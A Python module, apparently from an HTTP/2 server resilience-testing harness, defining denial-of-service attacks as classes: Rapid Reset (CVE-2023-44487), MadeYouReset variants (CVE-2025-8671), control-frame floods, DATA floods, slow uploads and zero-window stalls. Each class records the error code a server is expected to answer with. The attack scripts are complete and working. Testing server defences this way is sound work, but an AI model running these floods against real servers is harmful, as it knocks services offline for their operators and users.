"""The attacks on HTTP/2: each a class whose first line says what it is and what it wants to exhaust.

An attack is a script that every connection of an attacker plays from its start. It yields

    bytes     to be sent as fast as the server takes them
    seconds   (a float) to be quiet for
    HOLD      nothing more is sent, but the connection is kept
    Answers   waits until so many streams have come to their end

and when it ends, the connection is closed by the attacker, who makes a new one at once, as he does when
he is thrown out. The bytes of a burst are made once and used by all connections.
"""
import collections
import functools

import http2_frames as h2
from http2_frames import PREFACE, frame, headers, settings, window_update

HOLD = None
Answers = collections.namedtuple("Answers", "count")
BURST = 1000  # of whatever an attack repeats: some 10 to 60 KiB
SITE = "a.test"


def block(path="/", method=b"\x82", more=b"", authority=SITE):
    """A request's header block, as short as HPACK makes it, independent of the table."""
    at = b"\x84" if path == "/" else b"\x04" + h2.text(path)
    return method + b"\x87" + at + b"\x01" + h2.text(authority) + more


POST = b"\x83"
GET = block()


def field(name, value):
    return h2.literal(name, value)


def odd(count, first=1):
    return range(first, first + 2 * count, 2)


def each(count, make, first=1):
    """make(stream) for so many streams."""
    return b"".join(make(stream) for stream in odd(count, first))


@functools.cache
def burst_of(attack, number):
    return attack.burst(number)


class Attack:
    reads = True      # what comes back
    settings = ()     # of the opening
    ack = True        # the server's SETTINGS are acknowledged
    window = 0        # by which the connection's window is opened beyond 65,535
    idles = False     # holds on to something instead of sending without end
    ends = True       # whether such a connection is to be ended by the server
    code = h2.ENHANCE_YOUR_CALM  # with which error

    def opening(self):
        more = window_update(self.window) if self.window else b""
        acknowledgement = settings(flags=h2.ACK) if self.ack else b""
        return PREFACE + settings(*self.settings) + acknowledgement + more

    def script(self):
        yield self.opening()
        number = 0
        while True:
            yield burst_of(type(self), min(number, self.bursts - 1))
            number += 1

    bursts = 1  # how many differ; the last one is repeated

    @staticmethod
    def burst(number):
        raise NotImplementedError

    @staticmethod
    def answer_hello():
        """Whether to go on when the server has answered the ClientHello."""
        return True

    @classmethod
    def about(cls):
        return cls.__doc__.strip().splitlines()[0]


class Paced(Attack):
    """Requests that keep to the limits: no more at a time than are allowed, and answers are read."""
    batch = 50
    bursts = 100
    ends = False
    first = 1       # the first stream's number
    window = 1 << 30
    settings = ((h2.INITIAL_WINDOW_SIZE, 1 << 20),)

    def prepare(self):
        return b""

    def script(self):
        yield self.opening() + self.prepare()
        for number in range(self.bursts):
            yield burst_of(type(self), number)
            yield Answers(number * self.batch)

    @classmethod
    def burst(cls, number):
        return each(cls.batch, cls.stream, cls.first + 2 * cls.batch * number)

    @staticmethod
    def stream(number):
        raise NotImplementedError


class Resets(Paced):
    """Streams that the server has to reset: a hundred at a time, for more would be refused."""
    batch = 60
    ends = True


class Streams(Attack):
    """Uses up streams: BURST in each burst, each of another number."""
    bursts = 100
    ack = False  # the limit on streams is not yet known: those beyond it are an error of their own

    @classmethod
    def burst(cls, number):
        return each(BURST, cls.stream, 1 + 2 * BURST * number)

    @staticmethod
    def stream(number):
        raise NotImplementedError


class LeaveInHandshake(Attack):
    """Leaves as soon as the server has signed its part of the handshake."""
    ends = False

    @staticmethod
    def answer_hello():
        return False

    def script(self):
        yield HOLD


# ---- resets ----------------------------------------------------------------------------------------


class RapidReset(Streams):
    """Requests that are cancelled at once (CVE-2023-44487): work for the worker, room for the next."""

    @staticmethod
    def stream(number):
        return headers(GET, number) + h2.reset(number)


class ResetByWindowOverflow(Resets):
    """MadeYouReset (CVE-2025-8671): a stream's window beyond 2^31-1, so that the server resets it."""

    @staticmethod
    def stream(number):
        return headers(GET, number) + window_update((1 << 31) - 1, number)


class ResetByZeroUpdate(Resets):
    """MadeYouReset: WINDOW_UPDATE of 0."""
    code = h2.PROTOCOL_ERROR

    @staticmethod
    def stream(number):
        return headers(GET, number) + window_update(0, number)


class ResetByLength(Resets):
    """MadeYouReset: a body longer than its Content-Length."""

    @staticmethod
    def stream(number):
        head = block(method=POST, more=field("content-length", "1"))
        return headers(head, number, end_stream=False) + h2.data(b"22", number, end_stream=False)


class ResetByDataBehindEnd(Resets):
    """MadeYouReset: DATA behind END_STREAM."""
    code = h2.STREAM_CLOSED

    @staticmethod
    def stream(number):
        return headers(GET, number) + h2.data(b"x", number)


class ResetBySelfDependency(Resets):
    """MadeYouReset: PRIORITY that makes a stream depend on itself."""

    @staticmethod
    def stream(number):
        return headers(GET, number) + h2.priority(number, number)


class ResetByHeadersBehindEnd(Resets):
    """MadeYouReset: HEADERS behind END_STREAM."""
    code = h2.STREAM_CLOSED

    @staticmethod
    def stream(number):
        return headers(GET, number) + headers(GET, number)


class ResetByMalformedHead(Resets):
    """MadeYouReset: a request with a field that HTTP/2 forbids."""

    @staticmethod
    def stream(number):
        return headers(block(more=field("connection", "close")), number)


class RefusedStreams(Streams):
    """Many more streams than allowed, answers not read: RST_STREAMs that wait to be sent."""
    reads = False

    @staticmethod
    def stream(number):
        path = "/big?n=1000000" if number < 256 else "/"
        return headers(block(path), number)

    settings = ((h2.INITIAL_WINDOW_SIZE, 1 << 30),)
    window = 1 << 30


class ResetOfIdle(Attack):
    """RST_STREAM for streams that never were."""
    code = h2.PROTOCOL_ERROR

    @staticmethod
    def burst(number):
        return each(BURST, h2.reset)


class ResetOfClosed(Attack):
    """RST_STREAM again and again for a stream that is over."""

    def script(self):
        yield self.opening() + headers(GET, 1)
        yield 0.02
        yield h2.reset(1) * BURST
        while True:
            yield h2.reset(1) * BURST


# ---- frames that carry nothing ---------------------------------------------------------------------


class Flood(Attack):
    """One frame without end."""
    @classmethod
    def burst(cls, number):
        return cls.frame * (65536 // len(cls.frame))


class SettingsFlood(Flood):
    """SETTINGS without end: each is to be acknowledged."""
    frame = settings((h2.HEADER_TABLE_SIZE, 4096))


class SettingsFloodDeaf(SettingsFlood):
    """SETTINGS without end, acknowledgements not read."""
    reads = False


class PingFlood(Flood):
    """PING without end: each is to be answered."""
    frame = h2.ping()


class PingFloodDeaf(PingFlood):
    """PING without end, answers not read."""
    reads = False


class PriorityFlood(Attack):
    """PRIORITY without end: trees to be rebuilt."""

    @staticmethod
    def burst(number):
        return each(BURST, lambda s: h2.priority(s + 2, s))


class PriorityUpdateFlood(Attack):
    """PRIORITY_UPDATE (RFC 9218) without end, for streams to come: each to be remembered."""
    code = h2.PROTOCOL_ERROR

    @staticmethod
    def burst(number):
        return each(BURST, lambda s: h2.priority_update(s, b"u=%d, i" % (s % 8)))


class UnknownFrames(Flood):
    """Frames of an unknown type without end."""
    frame = frame(0x42, 0, 0, b"????????")


class GoawayFlood(Flood):
    """GOAWAY without end."""
    frame = h2.goaway()


class WindowUpdatesOfOne(Flood):
    """WINDOW_UPDATE of 1 without end."""
    frame = window_update(1)


class WindowUpdatesOfOneOnStreams(Attack):
    """WINDOW_UPDATE of 1 without end, on streams whose answers wait for it."""
    settings = ((h2.INITIAL_WINDOW_SIZE, 0),)

    def script(self):
        yield self.opening() + each(100, lambda s: headers(block("/big?n=60000"), s))
        while True:
            yield burst_of(type(self), 0)

    @staticmethod
    def burst(number):
        return each(100, lambda s: window_update(1, s)) * 10


class WindowFlapping(Attack):
    """SETTINGS that open and shut the windows of a hundred waiting streams, without end."""
    settings = ((h2.INITIAL_WINDOW_SIZE, 0),)

    def script(self):
        yield self.opening() + each(100, lambda s: headers(block("/big?n=60000"), s))
        while True:
            yield burst_of(type(self), 0)

    @staticmethod
    def burst(number):
        both = ((h2.INITIAL_WINDOW_SIZE, 1), (h2.INITIAL_WINDOW_SIZE, 0))
        return settings(*both * 8) * 100


# ---- bodies ----------------------------------------------------------------------------------------


class DataFlood(Attack):
    """An upload whose frames are all the same."""
    body = h2.data(b"", 1, end_stream=False)

    def script(self):
        yield self.opening() + headers(block(method=POST), 1, end_stream=False)
        while True:
            yield burst_of(type(self), 0)

    @classmethod
    def burst(cls, number):
        return cls.body * (65536 // len(cls.body))


class EmptyData(DataFlood):
    """DATA of no length without end."""


class PaddedData(DataFlood):
    """DATA that is nothing but padding."""
    body = h2.data(h2.padded(b"", 0), 1, end_stream=False, flags=h2.PADDED)


class PaddedDataLong(DataFlood):
    """DATA of one byte and 255 of padding."""
    body = h2.data(h2.padded(b"x", 255), 1, end_stream=False, flags=h2.PADDED)


class DataOfReset(Attack):
    """DATA of one byte on a stream that the server has reset: passed over for nothing."""

    def script(self):
        head = block(method=POST, more=field("content-length", "1"))
        yield self.opening() + headers(head, 1, end_stream=False) + h2.data(b"22", 1)
        while True:
            yield burst_of(type(self), 0)

    @staticmethod
    def burst(number):
        return h2.data(b"x", 1, end_stream=False) * 6000


class TinyData(Paced):
    """Uploads in DATA of one byte: as many frames as the windows allow, each a chunk for the worker."""
    batch = 4

    @staticmethod
    def stream(number):
        return headers(block(method=POST), number, end_stream=False) + \
            h2.data(b"x", number, end_stream=False) * 6000 + h2.data(b"x", number)


class SlowUploads(Attack):
    """A hundred uploads on each connection that bring one byte a second."""
    idles = True
    ends = False

    def script(self):
        yield self.opening() + each(
            100, lambda s: headers(block("/", POST), s, end_stream=False))
        while True:
            yield 1.0
            yield each(100, lambda s: h2.data(b"x", s, end_stream=False))


# ---- answers that are not taken --------------------------------------------------------------------


class ZeroWindow(Attack):
    """A hundred big answers on each connection, and no window for them, ever."""
    settings = ((h2.INITIAL_WINDOW_SIZE, 0),)
    idles = True
    ends = False

    def script(self):
        yield self.opening() + each(100, lambda s: headers(block("/big?n=1000000"), s))
        yield HOLD


class ZeroWindowDrip(ZeroWindow):
    """The same, with one byte of window for each answer once a second."""

    def script(self):
        yield self.opening() + each(100, lambda s: headers(block("/big?n=1000000"), s))
        while True:
            yield 1.0
            yield each(100, lambda s: window_update(1, s))


class Deaf(ZeroWindow):
    """Big answers, windows wide open, and a client that stops reading from its socket."""
    settings = ((h2.INITIAL_WINDOW_SIZE, (1 << 31) - 1),)
    window = (1 << 31) - 65536
    reads = False
